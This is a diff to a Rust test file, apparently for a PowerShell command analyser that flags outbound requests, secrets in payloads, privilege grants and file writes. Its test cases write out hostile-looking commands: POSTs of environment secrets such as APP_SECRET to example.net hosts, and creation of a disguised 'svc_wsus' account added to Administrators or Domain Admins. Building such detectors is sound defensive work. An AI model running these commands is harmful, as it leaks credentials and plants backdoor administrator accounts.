@@ -69,7 +69,7 @@ fn web_cmdlets_send_like_curl() {
                 "invoke-restmethod",
                 "https://x.example.net",
                 "POST",
-                payload(&["k=$env:STRIPE_SECRET_KEY"], &[], &["STRIPE_SECRET_KEY"])
+                payload(&["k=${STRIPE_SECRET_KEY}"], &[], &["STRIPE_SECRET_KEY"])
             )]),
         ),
         (
@@ -230,7 +230,7 @@ fn mail_sends_body_and_attachments() {
                 "send-mailmessage",
                 &["a@x.com", "b@y.com", "c@z.com", "d@w.com"],
                 payload(
-                    &["Hi", "Key $env:TOKEN"],
+                    &["Hi", "Key ${TOKEN}"],
                     &[(&a, false), (&b, false)],
                     &["TOKEN"]
                 )
@@ -861,5 +861,77 @@ fn start_process_runs_its_program() {
             )]),
         ),
         ("Start-Process https://example.com", json!([])),
+    ]);
+}
+
+#[test]
+fn hashtables_and_subexpressions_stay_in_their_statement() {
+    let beat = "https://hooks.example.net/v1/beat";
+    run_table(&[
+        // The `;` inside `@{...}` separates entries, not statements: the
+        // secret stays in the request's body.
+        (
+            "Invoke-RestMethod -Method Post -Uri https://hooks.example.net/v1/beat -Body @{host=$env:COMPUTERNAME; key=$env:APP_SECRET}",
+            json!([url_request(
+                "invoke-restmethod",
+                beat,
+                "POST",
+                payload(
+                    &["@{host=${COMPUTERNAME}; key=${APP_SECRET}}"],
+                    &[],
+                    &["COMPUTERNAME", "APP_SECRET"]
+                )
+            )]),
+        ),
+        // The hashtable assigned first, then sent as JSON.
+        (
+            "$body = @{host=$env:COMPUTERNAME; key=$env:APP_SECRET}; Invoke-RestMethod -Uri https://hooks.example.net/v1/beat -Method Post -Body ($body | ConvertTo-Json)",
+            json!([url_request(
+                "invoke-restmethod",
+                beat,
+                "POST",
+                payload(
+                    &["$body", "$(echo $body | ConvertTo-Json)"],
+                    &[],
+                    &["COMPUTERNAME", "APP_SECRET"]
+                )
+            )]),
+        ),
+        // A parenthesised subexpression as a parameter's value.
+        (
+            "New-LocalUser -Name svc_wsus -Password (ConvertTo-SecureString 'Qv7#rT2p!mW9' -AsPlainText -Force) -Description 'WSUS sync account'; Add-LocalGroupMember -Group Administrators -Member svc_wsus",
+            json!([grant("local group Administrators", Some("svc_wsus"))]),
+        ),
+        (
+            "$u = New-LocalUser -Name svc -Password (ConvertTo-SecureString 'x' -AsPlainText -Force); Add-LocalGroupMember -Group Administrators -Member svc",
+            json!([grant("local group Administrators", Some("svc"))]),
+        ),
+        (
+            "New-ADUser -Name svc -AccountPassword (ConvertTo-SecureString 'x' -AsPlainText -Force) -Enabled $true; Add-ADGroupMember -Identity 'Domain Admins' -Members svc",
+            json!([grant("active directory group Domain Admins", Some("svc"))]),
+        ),
+    ]);
+    // `net localgroup ... /add` is reported as the cmdlet is.
+    check(
+        "net localgroup Administrators svc_wsus /add",
+        &json!([grant("local group Administrators", Some("svc_wsus"))]),
+    );
+}
+
+#[test]
+fn export_cmdlets_write_their_file() {
+    run_table(&[
+        (
+            "Get-Process | Export-Csv -Path C:\\ProgramData\\procs.csv -NoTypeInformation",
+            json!([write("/c/ProgramData/procs.csv")]),
+        ),
+        (
+            "Get-LocalUser | Export-Clixml users.xml",
+            json!([write(&p("users.xml"))]),
+        ),
+        (
+            "Get-Service | Export-Csv -Append -Path svc.csv",
+            json!([append(&p("svc.csv"))]),
+        ),
     ]);
 }
